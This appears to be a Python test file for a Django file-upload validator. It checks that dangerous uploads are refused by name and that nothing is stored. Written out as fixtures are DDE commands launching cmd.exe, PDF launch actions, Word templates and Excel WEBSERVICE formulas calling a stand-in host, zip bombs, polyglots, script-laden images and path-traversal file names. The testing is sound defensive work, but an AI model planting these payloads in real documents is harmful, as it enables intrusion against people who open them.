"""What must not come in, and that the refusal names the file and says what to do."""

from __future__ import annotations

import io
import struct
import zlib

import pytest
from PIL import Image

from huying.files import disk, reads, rules
from huying.files.models import File
from huying.kernel.errors import Invalid
from tests.files import samples

pytestmark = pytest.mark.django_db

TYPES = "[Content_Types].xml"
MACRO = samples.part(samples.docx(), TYPES).replace(
    b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    b"application/vnd.ms-word.document.macroEnabled.main+xml",
)
RELS = "word/_rels/settings.xml.rels"
TEMPLATE = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="https://bad.invalid/t.dotm" TargetMode="External"/></Relationships>'
)


def huge_png(width: int, height: int) -> bytes:
    """A few bytes that claim to be an enormous picture."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")
    )


HOSTILE = {
    "empty": ("a.jpg", b"", "空文件"),
    "too large": ("a.txt", b"x" * (rules.MAX_BYTES + 1), "超过了 20 MB"),
    "program": ("a.exe", b"MZ", "不能上传"),
    "web page": ("a.html", b"<script>", "不能上传"),
    "drawing with scripts": ("a.svg", b"<svg onload='x'/>", "不能上传"),
    "archive": ("a.zip", b"PK\x03\x04", "解压"),
    "old office": ("a.doc", b"\xd0\xcf\x11\xe0", "另存为 .docx"),
    "wps": ("a.wps", b"\xd0\xcf\x11\xe0", "另存为 .docx"),
    "film by name": ("a.mov", b"x", "不收视频"),
    "film as mp4": ("a.mp4", samples.mp4(b"soun", b"vide"), "不收视频"),
    "film as webm": ("a.webm", samples.webm(2, 1), "不收视频"),
    "silent mp4": ("a.m4a", samples.mp4(b"text"), "没有能播放"),
    "nested mp4": ("a.mp4", samples.mp4() + (b"\0\x0f\xff\xffmoov") * 5000, "没有能播放"),
    "nested webm": (
        "a.webm",
        samples.webm(2)[:12] + b"\x18\x53\x80\x67\x01" + b"\xff" * 7 + b"\xae\x8f" * 9000,
        "没有",
    ),
    "not a recording": ("a.mp3", b"<html>" + bytes(99), "不是能识别的录音"),
    "lying picture": ("a.jpg", samples.pdf(), "不是图片"),
    "program as picture": ("a.png", b"MZ" + bytes(200), "不是图片"),
    "page as picture": ("a.gif", b"<html><script>alert(1)</script>", "能识别的图片"),
    "broken picture": ("a.jpg", samples.photo()[:900], "图片"),
    "bomb of a picture": ("a.png", huge_png(30_000, 30_000), "太大"),
    "broken png": ("a.png", huge_png(300, 300), "不完整"),
    "picture as pdf": ("a.pdf", samples.photo(), "PDF"),
    "pdf behind something": ("a.pdf", b"GIF89a" + samples.pdf(), "PDF"),
    "zip behind a pdf": ("a.pdf", samples.pdf() + samples.docx(), "PDF"),
    "pdf script": ("a.pdf", samples.pdf(script=True), "脚本"),
    "pdf attachment": ("a.pdf", samples.pdf(attached=True), "夹带"),
    "pdf password": ("a.pdf", samples.pdf(password="x"), "密码"),
    "torn pdf": ("a.pdf", b"%PDF-1.7\n1 0 obj\n<<\n" + b"%%EOF", "损坏"),
    "any zip as docx": ("a.docx", samples.rezip(samples.docx(), {TYPES: b"<Types/>"}), "不是 .docx"),
    "docx as xlsx": ("a.xlsx", samples.docx(), "不是 .xlsx"),
    "docm as docx": ("a.docx", samples.rezip(samples.docx(), {TYPES: MACRO}), "宏"),
    "hidden macro": ("a.docx", samples.rezip(samples.docx(), {"word/vbaProject.bin": b"x"}), "宏"),
    "calls home": ("a.docx", samples.rezip(samples.docx(), {RELS: TEMPLATE}), "外部地址"),
    "zip bomb": ("a.docx", samples.rezip(samples.docx(), {"word/x.xml": bytes(60_000_000)}), "大得不正常"),
    "climbing part": ("a.docx", samples.rezip(samples.docx(), {"../../x": b"x"}), "损坏"),
    "torn docx": ("a.docx", samples.docx()[:-400], "损坏"),
    "docx behind a picture": ("a.docx", samples.photo() + samples.docx(), "损坏"),
    "page behind a docx": ("a.docx", samples.docx() + b"<html>", "损坏"),
    "docx with password": ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "密码"),
    "binary as text": ("a.txt", bytes(range(256)), "不是文本"),
    "bomb of a document": (
        "a.docx",
        samples.rezip(samples.docx(), {f"word/media/x{n}.xml": b"0" * 900_000 for n in range(200)}),
        "大得不正常",
    ),
    "many parts": ("a.docx", samples.rezip(samples.docx(), {f"word/{n}.xml": b"" for n in range(4100)}), "庞杂"),
    "nested documents": ("a.docx", samples.nested(2), "套着"),
    "program in a document": (
        "a.docx",
        samples.rezip(samples.docx(), {"word/media/image1.png": b"MZ" + bytes(99)}),
        "夹带",
    ),
    "archive in a document": (
        "a.docx",
        samples.rezip(samples.docx(), {"word/media/x.png": b"PK\x03\x04" + bytes(99)}),
        "夹带",
    ),
    "object in a document": (
        "a.docx",
        samples.rezip(samples.docx(), {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
        "夹带",
    ),
    "page in a document": ("a.docx", samples.rezip(samples.docx(), {"word/chunk.htm": b"<script>1</script>"}), "夹带"),
    "macro inside a document inside": (
        "a.docx",
        samples.rezip(
            samples.docx(), {"word/embeddings/a.docx": samples.rezip(samples.docx(), {"word/vbaProject.bin": b"x"})}
        ),
        "宏",
    ),
    "macro sheet": ("a.xlsx", samples.rezip(samples.workbook(), {"xl/macrosheets/sheet1.xml": b"<x/>"}), "宏"),
    "template in single quotes": (
        "a.docx",
        samples.rezip(
            samples.docx(), {RELS: samples.relations("attachedTemplate", "https://bad.invalid/t", quote="'")}
        ),
        "外部地址",
    ),
    "template in entities": (
        "a.docx",
        samples.rezip(samples.docx(), {RELS: samples.relations("attachedTemplate", "&#104;ttps&#58;//bad.invalid/t")}),
        "外部地址",
    ),
    "template in another coding": (
        "a.docx",
        samples.rezip(
            samples.docx(),
            {
                RELS: samples.relations("attachedTemplate", "https://bad.invalid/t")
                .decode()
                .replace("UTF-8", "UTF-16")
                .encode("utf-16")
            },
        ),
        "写法不正常",
    ),
    "entities that grow": (
        "a.docx",
        samples.rezip(samples.docx(), {RELS: b"<!DOCTYPE x [<!ENTITY a 'aaaa'>]><x>&a;</x>"}),
        "写法不正常",
    ),
    "share of a network": (
        "a.docx",
        samples.rezip(samples.docx(), {RELS: samples.relations("image", "\\\\10.0.0.9\\x.png")}),
        "外部地址",
    ),
    "page loaded in a document": (
        "a.docx",
        samples.rezip(samples.docx(), {RELS: samples.relations("aFChunk", "http://bad.invalid/x")}),
        "外部地址",
    ),
    "dde": ("a.docx", samples.fields('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'), "别的程序"),
    "dde in pieces": ("a.docx", samples.fields("DD", "EAU", 'TO cmd "/k calc"'), "别的程序"),
    "dde in a workbook": (
        "a.xlsx",
        samples.rezip(
            samples.workbook(),
            {"xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'},
        ),
        "别的程序",
    ),
    "query in a workbook": (
        "a.xlsx",
        samples.rezip(samples.workbook(), {"xl/connections.xml": b"<connections/>"}),
        "外部地址",
    ),
    "function that calls home": (
        "a.xlsx",
        samples.rezip(
            samples.workbook(),
            {"xl/worksheets/sheet1.xml": b'<worksheet><f>_xlfn.WEBSERVICE("http://bad.invalid")</f></worksheet>'},
        ),
        "外部地址",
    ),
    "pdf that starts a program": ("a.pdf", samples.pdf_of(samples.acts_alone("/Launch", F="calc.exe")), "脚本"),
    "pdf that opens an address": (
        "a.pdf",
        samples.pdf_of(samples.acts_alone("/URI", URI="http://bad.invalid")),
        "脚本",
    ),
    "pdf that sends its form": (
        "a.pdf",
        samples.pdf_of(samples.acts_alone("/SubmitForm", F="http://bad.invalid")),
        "脚本",
    ),
    "pdf script by another spelling": (
        "a.pdf",
        samples.pdf(script=True).replace(b"/JavaScript", b"/J#61vaScript"),
        "脚本",
    ),
    "page as sound": ("a.mp3", samples.tagged(body=b"<html><script>alert(1)</script>"), "没有能播放"),
    "a hundred thousand dots wide": ("a.png", huge_png(100_000, 100_000), "太大"),
    "drawing with another ending": (
        "a.png",
        b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='x'/>",
        "能识别的图片",
    ),
    "web page as text with nul": ("a.txt", b"<html>\0", "不是文本"),
    "no ending": ("文件", b"whatever this is", "扩展名"),
}


# One of each sort, for the forms that take files: the words typed beside them stay.
FORMS = ("program", "zip bomb", "dde in pieces", "pdf script", "bomb of a picture", "lying picture")


@pytest.mark.attack(
    "outsider",
    "uploads bombs, polyglots, lying endings, scripts, macros, objects, DDE, and documents that phone home",
    found="mended: embedded objects, DDE, remote parts in single quotes or entities and PDF acting when opened came in; refused now",
)
@pytest.mark.parametrize("case", HOSTILE, ids=str)
def test_refused_by_name_and_nothing_is_kept(upload, case):
    name, raw, why = HOSTILE[case]
    with pytest.raises(Invalid) as refused:
        upload(name, raw)
    message = refused.value.fields["files"]
    assert why in message
    assert f"“{name}”" in message
    assert not File.objects.exists()
    assert not list(disk.contents())


@pytest.mark.attack("outsider", "uploads a zip bomb whose header lies about its size", found="held")
def test_a_bomb_that_lies_about_its_size_is_counted_while_unpacking(upload):
    raw = samples.rezip(samples.docx(), {"word/x.xml": bytes(60_000_000)})
    claimed = raw.replace(struct.pack("<I", 60_000_000), struct.pack("<I", 1000))
    with pytest.raises(Invalid):
        upload("a.docx", claimed)


@pytest.mark.attack("clerk", "uploads a picture that is a web page and a document as well", found="held")
def test_a_polyglot_picture_loses_its_second_nature(upload):
    out = io.BytesIO()
    Image.new("RGB", (9, 9)).save(out, "GIF")
    body = reads.content(upload("a.gif", out.getvalue() + b"<script>alert(1)</script>" + samples.docx()))
    assert b"script" not in body
    assert b"PK\x03\x04" not in body


@pytest.mark.attack(
    "outsider",
    "gives a file a name with path parts, another direction, line breaks, marks piled up, or of a Windows device",
    found="mended: names of devices and piled-up marks were kept",
)
@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/passwd.txt", "passwd.txt"),
        ("C:\\Users\\x\\桌面\\情况.txt", "情况.txt"),
        ("a\u202etxt.exe.txt", "atxt.exe.txt"),
        ("a\r\nSet-Cookie: x.txt", "aSet-Cookie_ x.txt"),
        ("<b>\"名\".txt", "_b__名_.txt"),
        (".txt", "附件.txt"),
        ("e\u0301.txt", "é.txt"),
        ("长" * 300 + ".txt", "长" * 116 + ".txt"),
        ("CON.txt", "_CON.txt"),
        ("nul.tar.txt", "_nul.tar.txt"),
        ("a\u2066\u200b\u0000\u0007b.txt", "ab.txt"),
        ("\u0335\u0336\u0337\u0338" * 20 + "a.txt", "\u0335\u0336a.txt"),
        ("x.txt:stream.txt", "x.txt_stream.txt"),
    ],
)  # fmt: skip
def test_names_are_made_safe(upload, given, kept):
    name = reads.name(upload(given, b"text"))
    assert name == kept
    assert len(name) <= rules.MAX_NAME


@pytest.mark.attack("outsider", "hides a web page in the comment of a photo", found="held")
def test_a_page_hidden_in_a_picture_is_gone(upload):
    photo = samples.photo()
    comment = b"<script>alert(1)</script>"
    raw = photo[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + photo[2:]
    body = reads.content(upload("a.jpg", raw))
    assert b"script" not in body
    assert b"SecretCamera" not in body


@pytest.mark.parametrize(
    ("name", "raw"),
    [
        ("链接.docx", samples.rezip(samples.docx(), {RELS: samples.relations("hyperlink", "https://www.acftu.org/")})),
        (
            "模板.docx",
            samples.rezip(samples.docx(), {RELS: samples.relations("attachedTemplate", "file:///C:/x/Normal.dotm")}),
        ),
        (
            "图表.docx",
            samples.rezip(samples.docx(), {"word/embeddings/Microsoft_Excel_Sheet1.xlsx": samples.workbook()}),
        ),
        ("域.docx", samples.fields("PAGE", ' HYPERLINK "https://www.acftu.org/"')),
        ("表.xlsx", samples.workbook()),
        ("打开到第一页.pdf", samples.pdf_of(samples.acts_alone("/GoTo"))),
    ],
)
def test_what_honest_people_send_comes_in(upload, name, raw):
    assert reads.name(upload(name, raw)) == name
